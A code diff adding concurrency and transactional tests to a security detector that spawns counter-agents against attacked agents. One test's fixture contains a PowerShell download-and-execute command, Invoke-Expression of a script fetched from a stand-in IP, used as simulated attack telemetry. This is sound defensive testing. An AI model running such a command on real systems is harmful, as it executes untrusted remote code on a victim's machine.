@@ -3,7 +3,10 @@
 // Only the alert webhook is replaced, by a sink that records what it was sent.
 #include <gtest/gtest.h>
 
+#include <atomic>
+#include <latch>
 #include <mutex>
+#include <thread>
 
 #include "detect/detect.h"
 #include "mesh/mesh.h"
@@ -191,6 +194,92 @@ TEST_F(DetectorTest, AtMostOneLiveCounterAgentPerAgentAndTechnique) {
   ASSERT_TRUE(reg_->remove("default", *first.detections[0].counter_agent_id, false).ok());
   IngestResult third = detector_->ingest("default", event(kDnsExfil));
   EXPECT_EQ(third.counter_agents.size(), 1u);
+}
+
+// Many sensors at once: the same attack on one agent from 8 threads still gets
+// one counter-agent, and every other agent attacked meanwhile gets its own.
+TEST_F(DetectorTest, ConcurrentAttacksKeepOneCounterAgentPerAgentAndTechnique) {
+  constexpr int kThreads = 8, kRepeats = 5;
+  std::vector<registry::Agent> others;
+  for (int i = 0; i < kThreads; ++i) {
+    registry::NewAgent a;
+    a.label = "sensor" + std::to_string(i);
+    auto spawned = reg_->spawn_one("default", a);
+    ASSERT_TRUE(spawned.ok());
+    others.push_back(*spawned);
+  }
+  const std::string powershell =
+      R"j({"event":"exec.powershell","command":"Invoke-Expression (iwr http://203.0.113.9/a.ps1)"})j";
+  std::atomic<int> spawned{0}, errors{0};
+  std::vector<std::thread> threads;
+  std::latch start(kThreads);
+  for (int t = 0; t < kThreads; ++t) {
+    threads.emplace_back([&, t] {
+      start.arrive_and_wait();  // all at once, so the responses really overlap
+      for (int i = 0; i < kRepeats; ++i) {
+        for (const std::string& body :
+             {event(powershell), R"({"agent_id":")" + others[t].id + R"(","telemetry":)" + kDnsExfil + "}"}) {
+          IngestResult r = detector_->ingest("default", body);
+          spawned += static_cast<int>(r.counter_agents.size());
+          errors += static_cast<int>(r.response_errors.size() + r.rejected.size());
+        }
+      }
+    });
+  }
+  for (auto& th : threads) th.join();
+  EXPECT_EQ(errors.load(), 0);
+  EXPECT_EQ(spawned.load(), 1 + kThreads);
+  EXPECT_EQ(children().size(), 1u);
+  auto records = dstore_->counter_agents("default", agent_.id);
+  ASSERT_TRUE(records.ok());
+  ASSERT_EQ(records->size(), 1u);
+  EXPECT_EQ((*records)[0].technique, "T1059.001");
+  for (const auto& other : others) {
+    auto own = dstore_->counter_agents("default", other.id);
+    ASSERT_TRUE(own.ok());
+    ASSERT_EQ(own->size(), 1u) << other.id;
+    EXPECT_EQ((*own)[0].technique, "T1071.004");
+    EXPECT_TRUE(detector_->egress_denied("default", other.id).has_value());
+  }
+  // Every detection of A points at the one counter-agent.
+  DetectionQuery q;
+  q.agent_id = agent_.id;
+  auto page = dstore_->list_detections("default", q);
+  ASSERT_TRUE(page.ok());
+  EXPECT_EQ(page->first.size(), static_cast<size_t>(kThreads * kRepeats));
+  for (const auto& d : page->first) EXPECT_EQ(d.counter_agent_id, (*records)[0].id);
+}
+
+// A response's records are written all or nothing: a failing row (here a
+// duplicate evidence id) leaves no counter-agent record, containment or action.
+TEST_F(DetectorTest, ResponseRecordIsAllOrNothing) {
+  ResponseRecord r;
+  r.counter_agent = {"ca-1", "default", agent_.id, "T1055", "det-1", "process-monitor",
+                     "quarantine", Value::object(), now_};
+  r.containments.push_back({"default", agent_.id, "quarantine", "ca-1", "T1055", now_, now_ + 1000});
+  Evidence e;
+  e.id = "ev-1";
+  e.tenant_id = "default";
+  e.agent_id = agent_.id;
+  e.detection_id = "det-1";
+  e.counter_agent_id = "ca-1";
+  e.snapshot = Value::object();
+  r.evidence = {e, e};
+  r.actions.push_back({"default", "ca-1", agent_.id, "det-1", "quarantine", "done", Value::object(), now_});
+  auto st = dstore_->record_response(r);
+  ASSERT_FALSE(st.ok());
+  EXPECT_NE(st.error().message.find("evidence"), std::string::npos) << st.error().message;
+  EXPECT_TRUE(dstore_->counter_agents("default", agent_.id)->empty());
+  EXPECT_TRUE(dstore_->evidence("default", agent_.id)->empty());
+  EXPECT_TRUE(dstore_->actions("default", "det-1")->empty());
+  EXPECT_TRUE(dstore_->active_containments(now_)->empty());
+  // The same record without the duplicate goes in whole.
+  r.evidence.pop_back();
+  ASSERT_TRUE(dstore_->record_response(r).ok());
+  EXPECT_EQ(dstore_->counter_agents("default", agent_.id)->size(), 1u);
+  EXPECT_EQ(dstore_->evidence("default", agent_.id)->size(), 1u);
+  EXPECT_EQ(dstore_->actions("default", "det-1")->size(), 1u);
+  EXPECT_EQ(dstore_->active_containments(now_)->size(), 1u);
 }
 
 TEST_F(DetectorTest, ProcessInjectionKillsTheAgentAfterAForensicDump) {
